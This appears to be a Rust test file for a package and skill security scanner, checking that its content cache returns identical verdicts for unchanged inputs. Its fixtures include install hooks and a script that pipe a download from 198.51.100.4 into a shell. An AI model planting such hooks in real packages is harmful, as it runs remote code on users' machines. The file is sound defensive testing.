#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The content cache (`--cache`) for packages given as targets: a folder, one file, an archive. A second
//! scan of unchanged bytes reads the stored result, which renders exactly as the fresh one; changed bytes,
//! another rule pack or a damaged entry mean a scan.

use assert_cmd::Command;
use std::fs;
use std::path::Path;

struct Run {
    json: serde_json::Value,
    stderr: String,
    code: Option<i32>,
}

fn scan(cwd: &Path, cache: &Path, args: &[&str]) -> Run {
    let out = Command::cargo_bin("skill-scan")
        .expect("binary builds")
        .current_dir(cwd)
        .args(["--no-config", "--format", "json", "--cache"])
        .arg(cache)
        .args(args)
        .output()
        .unwrap();
    Run {
        json: serde_json::from_slice(&out.stdout).unwrap(),
        stderr: String::from_utf8(out.stderr).unwrap(),
        code: out.status.code(),
    }
}

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

/// A package that blocks (an install hook piping a download to a shell) and a skill that is allowed.
fn packages(root: &Path) {
    write(
        root,
        "evil/package.json",
        r#"{"name": "left-padder", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://198.51.100.4/p.sh | sh"}}"#,
    );
    write(root, "evil/index.js", "module.exports = 1;\n");
    write(
        root,
        "notes/SKILL.md",
        "---\nname: notes\ndescription: Keeps notes.\n---\nWrite notes to notes.md.\n",
    );
}

#[test]
fn an_unchanged_folder_is_read_back_identical_and_a_changed_one_is_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    packages(dir.path());
    let first = scan(dir.path(), &cache, &["evil", "notes"]);
    assert_eq!(first.code, Some(1), "{}", first.stderr);
    assert!(
        first.stderr.contains("0 hit(s), 2 miss(es)"),
        "{}",
        first.stderr
    );
    let second = scan(dir.path(), &cache, &["evil", "notes"]);
    assert!(
        second.stderr.contains("2 hit(s), 0 miss(es)"),
        "{}",
        second.stderr
    );
    assert_eq!(second.code, Some(1));
    assert_eq!(first.json["targets"], second.json["targets"]);
    assert_eq!(first.json["targets"][0]["verdict"], "block");

    // The same bytes under another name are another target: its report names it.
    fs::rename(dir.path().join("notes"), dir.path().join("notes2")).unwrap();
    let renamed = scan(dir.path(), &cache, &["notes2"]);
    assert!(
        renamed.stderr.contains("0 hit(s), 1 miss(es)"),
        "{}",
        renamed.stderr
    );
    assert_eq!(renamed.json["targets"][0]["target"], "notes2");

    // One changed byte is a miss, and the new verdict is the scan's.
    write(
        dir.path(),
        "evil/package.json",
        r#"{"name": "left-padder", "version": "1.0.1"}"#,
    );
    let changed = scan(dir.path(), &cache, &["evil"]);
    assert!(
        changed.stderr.contains("0 hit(s), 1 miss(es)"),
        "{}",
        changed.stderr
    );
    assert_eq!(changed.json["targets"][0]["verdict"], "allow");
}

#[test]
fn a_single_file_and_an_archive_are_cached_by_their_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    write(
        dir.path(),
        "setup.sh",
        "curl -s http://198.51.100.4/p.sh | sh\n",
    );
    let tar = tar_gz(&[
        (
            "package/package.json",
            r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node x.js"}}"#,
        ),
        (
            "package/x.js",
            "require('child_process').exec('curl http://198.51.100.4/p | sh');\n",
        ),
    ]);
    fs::write(dir.path().join("a-1.0.0.tgz"), &tar).unwrap();
    let first = scan(dir.path(), &cache, &["setup.sh", "a-1.0.0.tgz"]);
    assert!(
        first.stderr.contains("0 hit(s), 2 miss(es)"),
        "{}",
        first.stderr
    );
    let second = scan(dir.path(), &cache, &["setup.sh", "a-1.0.0.tgz"]);
    assert!(
        second.stderr.contains("2 hit(s), 0 miss(es)"),
        "{}",
        second.stderr
    );
    assert_eq!(first.json["targets"], second.json["targets"]);
    assert_eq!(first.code, second.code);
    // Another archive's bytes are a miss.
    let mut other = tar.clone();
    other.extend_from_slice(&[0; 512]);
    fs::write(dir.path().join("a-1.0.0.tgz"), &other).unwrap();
    let third = scan(dir.path(), &cache, &["a-1.0.0.tgz"]);
    assert!(
        third.stderr.contains("0 hit(s), 1 miss(es)"),
        "{}",
        third.stderr
    );
}

#[test]
fn a_damaged_entry_or_another_rule_pack_means_a_scan() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    packages(dir.path());
    let first = scan(dir.path(), &cache, &["evil"]);
    for shard in fs::read_dir(&cache).unwrap().flatten() {
        if shard.path().is_dir() {
            for entry in fs::read_dir(shard.path()).unwrap().flatten() {
                fs::write(entry.path(), b"skill-scan-cache 1 0 0\n{}").unwrap();
            }
        }
    }
    let damaged = scan(dir.path(), &cache, &["evil"]);
    assert!(
        damaged.stderr.contains("not a valid cache entry"),
        "{}",
        damaged.stderr
    );
    assert!(
        damaged.stderr.contains("0 hit(s), 1 miss(es)"),
        "{}",
        damaged.stderr
    );
    assert_eq!(first.json["targets"], damaged.json["targets"]);

    let rules = dir.path().join("rules");
    write(
        &rules,
        "extra.yaml",
        "rules:\n  - id: ORG001\n    name: org-marker\n    title: Marker\n    category: supply_chain\n    signal: hygiene\n    action: log\n    mitre: [T1195.002]\n    description: |\n      Marks a text an organisation tracks; it matters for their audit and is fixed by removing the marker.\n    match:\n      regex: 'ORG_MARKER_TEXT'\n",
    );
    let rules = rules.to_str().unwrap();
    let other_pack = scan(dir.path(), &cache, &["evil", "--rules", rules]);
    assert!(
        other_pack.stderr.contains("0 hit(s), 1 miss(es)"),
        "{}",
        other_pack.stderr
    );
    let again = scan(dir.path(), &cache, &["evil", "--rules", rules]);
    assert!(
        again.stderr.contains("1 hit(s), 0 miss(es)"),
        "{}",
        again.stderr
    );
}

#[test]
fn without_the_flag_nothing_is_cached() {
    let dir = tempfile::tempdir().unwrap();
    packages(dir.path());
    let out = Command::cargo_bin("skill-scan")
        .unwrap()
        .current_dir(dir.path())
        .env("XDG_CACHE_HOME", dir.path().join("xdg"))
        .args(["--no-config", "notes"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert!(!String::from_utf8(out.stderr)
        .unwrap()
        .contains("content cache"));
    assert!(!dir.path().join("xdg").exists());
}

/// A gzipped tar of `files`.
fn tar_gz(files: &[(&str, &str)]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for (name, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, name, text.as_bytes()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}
